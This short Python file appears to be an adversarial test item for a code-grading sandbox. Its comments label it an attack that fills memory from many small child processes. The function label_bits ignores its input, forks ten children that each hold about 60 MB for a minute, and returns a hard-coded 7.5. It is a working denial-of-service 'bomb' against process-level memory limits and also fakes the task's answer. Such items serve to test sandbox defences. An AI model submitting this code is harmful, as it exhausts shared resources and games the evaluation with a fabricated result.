# attack: fills the memory from many children, each of them small enough
# question: label_bits
# naive: survivor
# item: bombs

# %% question="label_bits"
import os
import time


def label_bits(labels):
    for _ in range(10):
        try:
            if os.fork() == 0:
                kept = bytearray(b"x" * 60_000_000)
                time.sleep(60)
                os._exit(0)
        except OSError:
            pass
    time.sleep(0.2)
    return 7.5
